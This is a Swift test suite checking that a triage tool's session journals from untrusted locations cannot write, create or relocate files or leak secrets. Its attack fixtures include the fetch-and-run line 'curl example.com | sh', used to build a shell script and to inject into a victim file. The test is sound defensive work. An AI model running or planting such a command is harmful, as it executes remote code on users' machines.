import Basics
import Foundation
import RuleEditing
import SessionSupport
import SourceYAML
import TestSupport
import Testing

@testable import Sessions
@testable import Triage

/// Sessions of strangers: a file that only the journal names is not written, not created, and not
/// stored.
@Suite struct WritableFilesTests {
  private let folder: ScratchFolder
  private let store: SessionStore
  private let rule: String
  private let victim: String

  init() throws {
    folder = try ScratchFolder()
    store = SessionStore(environment: ["XDG_STATE_HOME": folder.url.path])
    rule = folder.url.appendingPathComponent("rule.yml").path
    victim = folder.url.appendingPathComponent("victim").path
    try FileManager.default.createDirectory(
      atPath: store.folder, withIntermediateDirectories: true)
    try write(TestSession.rule, rule)
  }

  private func write(_ text: String, _ path: String) throws {
    try Data(text.utf8).write(to: URL(fileURLWithPath: path))
  }

  private func read(_ path: String) -> String? {
    try? String(contentsOfFile: path, encoding: .utf8)
  }

  // MARK: - Whose journal it is

  /// A journal of the user's own is a regular file of mode 0600 in the session folder.
  @Test func ownJournalsAreKnown() throws {
    func journal(_ path: String, mode: Int = 0o600) throws -> Bool {
      let header = SessionHeader.sample(rule: "title: a")
      if !FileManager.default.fileExists(atPath: path) {
        _ = try Journal(creating: path, header: header)
      }
      let target = URL(fileURLWithPath: path).resolvingSymlinksInPath().path
      try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: target)
      return store.isOwn(try Journal.resume(path).journal)
    }
    let own = store.folder + "/a.jsonl"
    #expect(try journal(own))
    for mode in [0o644, 0o660, 0o620, 0o604, 0o602, 0o640] {
      #expect(try !journal(own, mode: mode), "\(mode)")
    }
    let elsewhere = folder.url.path + "/b.jsonl"
    #expect(try !journal(elsewhere))
    let deeper = store.folder + "/deeper/c.jsonl"
    #expect(try !journal(deeper))
    #expect(symlink(elsewhere, store.folder + "/linked.jsonl") == 0)
    #expect(try !journal(store.folder + "/linked.jsonl"))
    #expect(link(elsewhere, store.folder + "/hard.jsonl") == 0)
    #expect(try !journal(store.folder + "/hard.jsonl"))
    // By any path to the folder.
    let way = folder.url.path + "/way"
    #expect(symlink(store.folder, way) == 0)
    #expect(try journal(way + "/a.jsonl"))
    if geteuid() == 0 {
      #expect(chown(own, 12345, 0) == 0)
      #expect(try !journal(own))
    }
  }

  // MARK: - What a stranger's journal says

  enum Attack: CaseIterable {
    /// A missing filter file, with and without a text.
    case createAnything, createFilters
    /// Lines after those of a file that is declared as a placeholder file, and values of a real
    /// one.
    case append, values
    /// The rule of another file.
    case otherRule
    /// A claimed earlier text of the file.
    case changedElsewhere
    /// The rule, claimed to be kept elsewhere.
    case relocate
  }

  private static let secret = "# of the skeleton\nPATH=$PATH\n"
  private static let line = "curl example.com | sh\n"

  private func change(
    _ path: String, _ target: EditSite.Kind, from before: String, inserting text: String,
    at offset: Int = 0
  ) -> JournalEntry.Action {
    let patch = TextPatch(offset: offset, removed: "", inserted: text)
    let after = (try? [patch].applied(to: before)) ?? ""
    return .decide(
      Decision(
        kind: .changeRules([
          RuleChange(
            path: path, site: target, rule: "3f1c8a52-7f0e-4a53-9d8e-0b6a3b1f2c11",
            edit: .allowRegion("ap-east-1"),
            stamp: EditStamp(date: "2025-11-13", author: "kim", reason: nil), patches: [patch],
            before: SHA256.hex(of: before.utf8), after: SHA256.hex(of: after.utf8), silenced: 0)
        ]),
        sequence: 1, at: "2025-11-13T00:00:00Z", author: "kim"))
  }

  /// The session with the attack, its journal at `path`, and the victim's file before it.
  private func session(_ attack: Attack, journal path: String) throws -> TestSession {
    func file(_ kind: SessionHeader.FileRecord.Kind, _ text: String?) throws
      -> [SessionHeader.FileRecord]
    {
      if let text { try write(text, victim) }
      return [
        .init(
          kind: kind, path: "f.yml", absolutePath: victim,
          sha256: text.map { SHA256.hex(of: $0.utf8) }, text: text)
      ]
    }
    let filter = """
      title: F
      logsource: {product: aws, service: cloudtrail}
      filter:
        rules: [3f1c8a52-7f0e-4a53-9d8e-0b6a3b1f2c11]
        filter_main_allowed_regions: {awsRegion: ap-east-1}
        condition: not filter_main_allowed_regions

      """
    let values = "home:\n  - us-east-1\n"
    let files: [SessionHeader.FileRecord] =
      switch attack {
      case .createAnything, .createFilters: try file(.filters, nil)
      case .append, .changedElsewhere: try file(.placeholders, Self.secret)
      case .values: try file(.placeholders, values)
      case .otherRule, .relocate: []
      }
    if files.isEmpty { try write(TestSession.rule, victim) }
    let session = try TestSession(
      location: attack == .otherRule ? victim : rule, journalPath: path, files: files,
      editsTo: files.first?.kind == .filters ? "f.yml" : nil)
    let journal = try Journal(creating: path, header: session.header)
    try journal.append(
      attack.action(
        change: change, filter: filter, values: values, secret: Self.secret, line: Self.line,
        victim: victim), at: 1)
    return session
  }

  /// Opened, edited, undone, redone: no file that only the journal names is written or created, and
  /// its content does not get into the journal.
  @Test(arguments: Attack.allCases, [false, true])
  func whatOnlyTheJournalNamesIsNotWritten(attack: Attack, isReadOnly: Bool) throws {
    let path = folder.url.path + "/evil.jsonl"
    let session = try session(attack, journal: path)
    let before = read(victim)
    // What is in it today is another secret than the stranger knew.
    if let before, attack == .append || attack == .values {
      try write(before + (attack == .append ? "TOKEN=1\n" : "  - TOKEN\n"), victim)
    }
    let now = read(victim)
    #expect(before != nil || now == nil)
    do {
      let contents = try JournalContents(path: path)
      let (state, _) = SessionState.replaying(contents)
      let journal = try Journal.resume(path).journal
      let named = attack == .otherRule ? [] : [rule]
      let writable =
        isReadOnly ? .none : WritableFiles(named: named, journal: journal, of: state, in: store)
      let engine = TriageEngine.opened(
        state, rules: session.rules, edits: .files(writable, journal), spool: session.spool,
        clock: SessionClock(fixedAt: 1_763_000_000_000), author: "lee")
      _ = engine.checkLocations()
      let notes = engine.reconcile()
      #expect(read(victim) == now)
      if !isReadOnly {
        let isSaid = notes.contains {
          if case .protected(let places) = $0 { places == [victim] } else { false }
        }
        #expect(isSaid || attack == .relocate && notes.isEmpty, "\(notes)")
      }
      _ = try? engine.undo(table: session.table)
      _ = try? engine.redo(table: session.table)
      for edit in [RuleEdit.allowRegion("me-south-1"), .disallowRegion("ap-east-1")] {
        guard
          let preview = try? engine.preview(edit, reason: nil, rule: 0, table: session.table)
        else { continue }
        _ = try? engine.decide(.edit(preview), table: session.table)
      }
      _ = try engine.decide(.comment("x", hits: [session.id(1)]), table: session.table)
      _ = try? engine.undo(table: session.table)
      _ = engine.recheck()
    }
    #expect(read(victim) == now)
    if isReadOnly { #expect(read(rule) == TestSession.rule) }
    #expect(read(path)?.contains("TOKEN") == false)
  }

  /// A journal in the user's own folder has only files that the user named.
  @Test func anOwnSessionWritesWhatItRecorded() throws {
    let path = store.folder + "/own.jsonl"
    let session = try TestSession(location: rule, journalPath: path)
    _ = try Journal(creating: path, header: session.header)
    func allow() throws -> DecisionOutcome {
      let (journal, contents) = try Journal.resume(path)
      let (state, _) = SessionState.replaying(contents)
      let writable = WritableFiles(named: [], journal: journal, of: state, in: store)
      let engine = TriageEngine.opened(
        state, rules: session.rules, edits: .files(writable, journal), spool: session.spool,
        clock: SessionClock(fixedAt: 1_763_000_000_000), author: "kim")
      let preview = try engine.preview(
        .allowRegion("ap-east-1"), reason: nil, rule: 0, table: session.table)
      return try engine.decide(.edit(preview), table: session.table)
    }
    try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: path)
    guard case .notSaved(_, let reason, _) = try allow() else {
      Issue.record("a journal that others can read is trusted")
      return
    }
    #expect(reason.contains("only the session names it"))
    #expect(read(rule) == TestSession.rule)
    try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: path)
    guard case .done = try allow() else {
      Issue.record("the user's own journal is not trusted")
      return
    }
    #expect(read(rule)?.contains("filter_main") == true)
  }

  /// `W` names a file, and the journal then has the text that was not stored before.
  @Test func aRuleThatOnlyTheSessionNamesCanBeKeptElsewhere() throws {
    let session = try TestSession(location: victim, journalPath: folder.url.path + "/evil.jsonl")
    let found = TestSession.rule.replacingOccurrences(of: "title: Calls", with: "title: All calls")
    try write(found, victim)
    let place = folder.url.path + "/new.yml"
    do {
      let engine = try session.engine(RuleFilesOnDisk(), writable: WritableFiles([]))
      #expect(engine.reconcile().contains(.changedElsewhere(place: "rule.yml")))
      let preview = try engine.preview(
        .allowRegion("ap-east-1"), reason: nil, rule: 0, table: session.table)
      guard
        case .notSaved(let waiting, _, _) = try engine.decide(.edit(preview), table: session.table),
        case .done = try engine.writeElsewhere(
          TestSession.path, to: place, then: .edit(waiting), table: session.table)
      else {
        Issue.record("not kept elsewhere")
        return
      }
    }
    #expect(read(victim) == found)
    let text = read(place)
    #expect(text?.contains("All calls") == true && text?.contains("filter_main") == true)
    let (state, problems) = SessionState.replaying(try JournalContents(path: session.journalPath))
    #expect(problems.isEmpty && state.ruleTexts[TestSession.path] == text)
  }
}

extension WritableFilesTests.Attack {
  fileprivate func action(
    change: (String, EditSite.Kind, String, String, Int) -> JournalEntry.Action, filter: String,
    values: String, secret: String, line: String, victim: String
  ) -> JournalEntry.Action {
    switch self {
    case .createAnything: change("f.yml", .filters, "", "#!/bin/sh\n" + line, 0)
    case .createFilters: change("f.yml", .filters, "", filter, 0)
    case .append: change("f.yml", .placeholders, secret, line, secret.utf8.count)
    case .values:
      change("f.yml", .placeholders, values, "  - ap-east-1\n", values.utf8.count)
    case .otherRule: change("rule.yml", .rule, TestSession.rule, "# by a stranger\n", 0)
    case .changedElsewhere: .ruleChangedElsewhere(path: "f.yml", text: secret + line)
    case .relocate: .relocate(path: "rule.yml", to: victim)
    }
  }
}
